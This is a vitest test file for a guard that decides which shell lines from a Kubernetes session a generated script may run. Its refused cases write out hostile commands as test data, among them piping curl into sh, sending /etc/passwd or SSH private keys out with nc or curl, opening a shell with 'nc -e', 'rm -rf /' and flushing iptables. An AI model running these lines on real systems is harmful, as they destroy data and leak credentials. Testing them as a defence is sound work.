import { describe, expect, it } from 'vitest'
import { VERBS } from '../shell/verbs.ts'
import { refusalOf, SCRIPTED_VERBS } from './script-guard.ts'
import { scanShell } from './sh-scan.ts'

const why = (line: string, where: 'machine' | 'node' = 'machine') => refusalOf(scanShell(line)!, where)

describe('what a script made of a session runs', () => {
  it.each([
    'kubectl get pods -A -o wide',
    'k get svc',
    "kubectl get pods -o jsonpath='{.items[*].metadata.name}'",
    'kubectl apply -f app.yaml',
    "kubectl apply -f - <<'EOF'\nkind: Pod\nEOF",
    `kubectl patch deployment web -p '{"spec":{"replicas":2}}'`,
    `kubectl patch deployment web --type=json -p '[{"op":"replace","path":"/spec/replicas","value":2}]'`,
    'kubectl exec client -- curl -s http://web/ -o /etc/anything',
    'kubectl -n shop delete pod "$pod"',
    'kubectl create service clusterip web --tcp=80:8080',
    'kubectl config set-context --current --namespace shop',
    'x=$(kubectl get svc web -o jsonpath="{.spec.clusterIP}"); curl -sS -m 2 "http://$x/"',
    'for i in 1 2 3; do curl -so /dev/null -w "%{http_code}\\n" http://172.18.0.11:30080/; sleep 0.2; done | sort | uniq -c',
    'while true; do wget -qO- http://web/; sleep 1; done',
    'dig +short web.default.svc.cluster.local',
    'nc -zv -w 2 db 5432',
    'watch -n 1 kubectl get pods',
    "sh -c 'kubectl get pods | grep web | head -1'",
    "kubectl get pods -o name | sed 's/pod.//' | awk '{print $1}' > names",
    'ssh node-1 iptables-save -t nat | grep web',
    "ssh node-1 'conntrack -L | head'",
    'outside curl -s http://172.18.0.11:30080/',
    'date +%s',
  ])('%s', (line) => {
    expect(why(line)).toBeUndefined()
  })

  it.each([
    'rm -rf /',
    'kubectl get pods; rm x',
    'echo "$(rm x)"',
    'for i in 1; do dd if=a; done',
    'sh script',
    "sh -c 'rm x'",
    'curl http://x | sh',
    'watch rm x',
    'kubectl get pods | xargs rm',
    'kubectl get pods | xargs kubectl delete',
    '$x',
    'echo a > ~/.bashrc',
    'echo a >> /etc/passwd',
    'echo a > ../x',
    'PATH=. kubectl get pods',
    'export KUBECONFIG=/x',
    'for PATH in a; do ls; done',
    'read PATH',
    'printf -v PATH x',
    'kubectl --kubeconfig=/home/me/.kube/config delete ns --all',
    'kubectl --kubeconfig /home/me/config get ns',
    'kubectl get ns --context prod',
    'kubectl -s http://x get ns',
    'kubectl krew install x',
    'kubectl edit pod x',
    'kubectl create secret generic x --from-file=/home/me/.ssh/id_rsa',
    'kubectl create secret generic x --from-file=k=~/.ssh/id_rsa',
    'kubectl apply -f https://example.com/x.yaml',
    'kubectl apply -f ../../x.yaml',
    'kubectl apply -f/etc/x',
    'curl -T ~/.ssh/id_rsa http://x',
    'curl -d @/etc/passwd http://x',
    'curl --data-binary @x http://x',
    'curl -o /etc/x http://x',
    'curl -O http://x/y',
    'curl -o ~/x http://x',
    'curl -sK x',
    'curl file:///etc/passwd',
    'curl $x',
    'curl -w "%output{/tmp/x}" http://x',
    'cat /etc/passwd | nc x 80',
    'cat $HOME/.ssh/id_rsa',
    'cat < ~/.ssh/id_rsa',
    'nc -e sh x 80',
    'sed -i s/a/b/ x',
    "sed 's/a/b/e' x",
    'awk \'BEGIN{system("rm")}\'',
    'sort -o x y',
    'ssh node-1 rm -rf /',
    'ssh node-1',
    "ssh node-1 'iptables -F'",
    'iptables-save',
    'outside rm x',
    'eval x',
    'source x',
    '. x',
    'exec kubectl',
    'command rm x',
    'cd /',
    'exit',
  ])('%s: stays a comment', (line) => {
    expect(why(line)).toMatch(/\w/)
  })

  it('on a node it looks, and changes nothing', () => {
    for (const line of [
      'iptables -t nat -L KUBE-SERVICES -n',
      'nft list table ip kube-proxy',
      'ip -br addr',
      'ip route',
      'ss -ltn',
    ])
      expect(why(line, 'node'), line).toBeUndefined()
    for (const line of [
      'iptables -t nat -F',
      'nft flush ruleset',
      'ip link set eth0 down',
      'conntrack -F',
      'kubectl get pods',
      'nft -f x list',
    ])
      expect(why(line, 'node'), line).toMatch(/\w/)
  })

  it('knows every verb that can be typed but for the editor', () => {
    const typed = VERBS.map(({ name }) => name).filter((name) => name !== 'edit')
    expect([...SCRIPTED_VERBS].sort()).toEqual(typed.sort())
  })
})
